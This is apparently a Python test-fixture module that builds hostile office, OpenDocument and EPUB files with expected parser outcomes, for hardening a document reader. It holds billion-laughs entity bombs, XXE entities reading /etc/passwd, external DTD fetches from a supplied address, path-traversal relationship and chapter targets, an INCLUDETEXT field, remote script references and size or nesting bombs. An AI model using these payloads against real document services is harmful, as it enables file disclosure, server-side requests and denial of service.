"""Office files, OpenDocument files and books that grow, nest, repeat and refer to elsewhere. Each XML part is one to be careful with."""

import io
import zipfile

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_P = (
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
_O = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"'
)
_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_LAUGHS = "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'


def files(address: str) -> dict[str, tuple[bytes, str]]:
    remote = f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://{address}/x.dtd"> %e;]>'
    return _word(address, remote) | _tables() | _slides(address) | _opendocument(address, remote) | _books(address, remote)


def packed(members: dict[str, str | bytes], *, first: tuple[str, str] | None = None) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as container:
        if first:
            container.writestr(first[0], first[1], zipfile.ZIP_STORED)
        for name, data in members.items():
            container.writestr(name, data)
    return made.getvalue()


def _relations(*entries: tuple[str, str, str]) -> str:
    body = "".join(f'<Relationship Id="{i}" Type="{_RELATED}{kind}" {target}/>' for i, kind, target in entries)
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def docx(body: str, *, declared: str = "", more: dict[str, str | bytes] | None = None, encoding: str = "utf-8") -> bytes:
    prologue = '<?xml version="1.0"?>' if encoding == "utf-8" else f'<?xml version="1.0" encoding="{encoding}"?>'
    document = f"{prologue}{declared}<w:document {_W}><w:body>{body}</w:body></w:document>".encode(encoding)
    return packed({"[Content_Types].xml": "<Types/>", "word/document.xml": document, **(more or {})})


def _word(address: str, remote: str) -> dict[str, tuple[bytes, str]]:
    text = "<w:p><w:r><w:t>words {}</w:t></w:r></w:p>"
    linked = _relations(
        ("rId1", "image", f'Target="http://{address}/a.png" TargetMode="External"'),
        ("rId2", "attachedTemplate", f'Target="http://{address}/t.dotm" TargetMode="External"'),
        ("rId3", "aFChunk", 'Target="document.xml"'),
        ("rId4", "image", 'Target="../../../../etc/passwd"'),
    )
    return {
        "laughs.docx": (docx(text.format("&l9;"), declared=LAUGHS), "failed corrupt"),
        "outside.docx": (docx(text.format("&l9;"), declared=OUTSIDE), "failed corrupt"),
        "outside, remote.docx": (docx(text.format(""), declared=remote), "failed corrupt"),
        "outside, in two bytes a letter.docx": (docx(text.format("&l9;"), declared=OUTSIDE, encoding="utf-16"), "failed corrupt"),
        "outside, behind a long comment.docx": (docx(text.format("&l9;"), declared=f"<!--{'x' * 9000}-->{OUTSIDE}"), ""),
        "laughs in the styles.docx": (
            docx(text.format(""), more={"word/styles.xml": f"{LAUGHS}<w:styles {_W}>&l9;</w:styles>"}),
            "failed corrupt",
        ),
        "outside in the properties.docx": (docx(text.format(""), more={"docProps/core.xml": f"{OUTSIDE}<x>&l9;</x>"}), "failed corrupt"),
        "references.docx": (docx(text.format(""), more={"word/_rels/document.xml.rels": linked}), "read"),
        "tables in tables.docx": (docx("<w:tbl><w:tr><w:tc>" * 60 + text + "</w:tc></w:tr></w:tbl>" * 60), ""),
        "paragraphs.docx": (docx("<w:p/>" * 100_000 + text.format("")), ""),
        "an attribute.docx": (docx(f'<w:p w:x="{"x" * 12_000_000}"/>'), ""),
        "fields.docx": (docx(f'<w:p><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/></w:p>{text.format("")}'), "read"),
        "no document.docx": (packed({"[Content_Types].xml": "<Types/>", "word/other.xml": "<x/>"}), ""),
        "a folder for a document.docx": (packed({"[Content_Types].xml": "<Types/>", "word/document.xml/": ""}), ""),
    }


def _xlsx(sheet: str, *, strings: str = "", book: str = "", declared: str = "") -> bytes:
    return packed(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": f'<workbook {_S}>{book}<sheets><sheet name="One" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": _relations(("rId1", "worksheet", 'Target="worksheets/sheet1.xml"')),
            "xl/sharedStrings.xml": f"{declared}<sst {_S}>{strings}</sst>",
            "xl/worksheets/sheet1.xml": f'<worksheet {_S}><dimension ref="A1:XFD1048576"/><sheetData>{sheet}</sheetData></worksheet>',
        }
    )


def _tables() -> dict[str, tuple[bytes, str]]:
    far = "".join(
        f'<row r="{row}"><c r="{cell}"><v>1</v></c></row>'
        for row, cell in ((1, "A1"), (1048576, "XFD1048576"), (9**12, "ZZZZZZZZ9"), (-1, "-1"))
    )
    numbers = "".join(f'<c s="1"><v>{value}</v></c>' for value in ("1e308", "-1e308", "NaN", "inf", "1e-320", "9" * 5000, "0x10", "-0"))
    shared = "".join(f'<c t="s"><v>{value}</v></c>' for value in ("0", "-1", "99999999999999", "x", "1e3", "\u0661"))
    return {
        "far cells.xlsx": (_xlsx(far), "read"),
        "numbers.xlsx": (_xlsx(f"<row>{numbers}</row>"), "read"),
        "strings that are not there.xlsx": (_xlsx(f"<row>{shared}</row>", strings="<si><t>words</t></si>"), "read"),
        "one string, many times.xlsx": (
            _xlsx('<row><c t="s"><v>0</v></c></row>' * 60_000, strings=f"<si><t>{'word ' * 6000}</t></si>"),
            "",
        ),
        "strings.xlsx": (_xlsx("<row/>", strings="<si><t>word</t></si>" * 100_000), ""),
        "rows.xlsx": (_xlsx("<row/>" * 100_000), ""),
        "cells.xlsx": (_xlsx("<row>" + "<c><v>1</v></c>" * 60_000 + "</row>"), ""),
        "laughs.xlsx": (_xlsx('<row><c t="s"><v>0</v></c></row>', strings="<si><t>&l9;</t></si>", declared=LAUGHS), "failed corrupt"),
        "runs.xlsx": (_xlsx("<row/>", strings=f"<si>{'<r><t>x</t></r>' * 50_000}</si>"), ""),
    }


def _slides(address: str) -> dict[str, tuple[bytes, str]]:
    slide = f"<p:sld {_P}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>words</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    listed = "".join(f'<p:sldId id="{n}" r:id="rId1"/>' for n in range(3_000))
    return {
        "one slide, many times.pptx": (
            packed(
                {
                    "[Content_Types].xml": "<Types/>",
                    "ppt/presentation.xml": f"<p:presentation {_P}><p:sldIdLst>{listed}</p:sldIdLst></p:presentation>",
                    "ppt/_rels/presentation.xml.rels": _relations(("rId1", "slide", 'Target="slides/slide1.xml"')),
                    "ppt/slides/slide1.xml": slide,
                    "ppt/slides/_rels/slide1.xml.rels": _relations(
                        ("rId1", "notesSlide", 'Target="slide1.xml"'),
                        ("rId2", "image", f'Target="http://{address}/a.png" TargetMode="External"'),
                    ),
                }
            ),
            "",
        ),
        "groups in groups.pptx": (
            packed(
                {
                    "[Content_Types].xml": "<Types/>",
                    "ppt/presentation.xml": f'<p:presentation {_P}><p:sldIdLst><p:sldId id="1" r:id="rId1"/></p:sldIdLst></p:presentation>',
                    "ppt/_rels/presentation.xml.rels": _relations(("rId1", "slide", 'Target="slides/slide1.xml"')),
                    "ppt/slides/slide1.xml": f"<p:sld {_P}><p:cSld><p:spTree>{'<p:grpSp>' * 240}{'</p:grpSp>' * 240}</p:spTree></p:cSld></p:sld>",
                }
            ),
            "",
        ),
    }


def _odf(kind: str, body: str, declared: str = "") -> bytes:
    content = f"{declared}<office:document-content {_O}><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    return packed({"content.xml": content}, first=("mimetype", f"application/vnd.oasis.opendocument.{kind}"))


def _opendocument(address: str, remote: str) -> dict[str, tuple[bytes, str]]:
    cell = '<table:table-cell table:number-columns-repeated="16384"><text:p>word</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    linked = (
        f'<text:p>words<draw:frame><draw:image xlink:href="http://{address}/a.png"/></draw:frame>'
        f'<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section></text:p>'
    )
    return {
        "laughs.odt": (_odf("text", "<text:p>&l9;</text:p>", LAUGHS), "failed corrupt"),
        "outside.odt": (_odf("text", "<text:p>&l9;</text:p>", OUTSIDE), "failed corrupt"),
        "outside, remote.odt": (_odf("text", "<text:p>words</text:p>", remote), "failed corrupt"),
        "references.odt": (_odf("text", linked), "read"),
        "blanks.odt": (_odf("text", '<text:p>words<text:s text:c="2000000000"/>words</text:p>'), ""),
        "blanks that are none.odt": (_odf("text", '<text:p>words<text:s text:c="-1"/><text:s text:c="x"/></text:p>'), "read"),
        "repeated.ods": (_odf("spreadsheet", f'<table:table table:name="One">{row * 3}</table:table>'), ""),
        "spans.ods": (
            _odf(
                "spreadsheet",
                f'<table:table table:name="{"n" * 100_000}"><table:table-row table:number-rows-repeated="x"><table:table-cell '
                'table:number-columns-repeated="99999999999999"><text:p>word</text:p></table:table-cell></table:table-row></table:table>',
            ),
            "",
        ),
        "lists.odt": (
            _odf("text", "<text:list><text:list-item>" * 120 + "<text:p>words</text:p>" + "</text:list-item></text:list>" * 120),
            "",
        ),
    }


def _books(address: str, remote: str) -> dict[str, tuple[bytes, str]]:
    def book(
        chapter: str, *, spine: str = '<itemref idref="c"/>', root: str = "content.opf", item: str = "c.xhtml", declared: str = ""
    ) -> bytes:
        return packed(
            {
                "META-INF/container.xml": '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
                f'<rootfiles><rootfile full-path="{root}"/></rootfiles></container>',
                "content.opf": f'{declared}<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="c" href="{item}" media-type="application/xhtml+xml"/>'
                f"</manifest><spine>{spine}</spine></package>",
                "c.xhtml": chapter,
            },
            first=("mimetype", "application/epub+zip"),
        )

    page = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script src="http://{address}/a.js"/></head><body><p>words</p><img src="http://{address}/a.png"/></body></html>'
    return {
        "remote.epub": (book(page), "read"),
        "one chapter, many times.epub": (book(page, spine='<itemref idref="c"/>' * 3_000), ""),
        "elsewhere.epub": (book(page, root="../../../etc/passwd"), ""),
        "a chapter elsewhere.epub": (book(page, item="../../../../etc/passwd"), ""),
        "a remote chapter.epub": (book(page, item=f"http://{address}/c.xhtml"), ""),
        "outside.epub": (book("<!DOCTYPE html [<!ENTITY l9 SYSTEM 'file:///etc/passwd'>]><html><body>words &l9;</body></html>"), ""),
        "laughs.epub": (book(page, declared=LAUGHS), "failed corrupt"),
        "outside, remote.epub": (book(page, declared=remote), "failed corrupt"),
    }
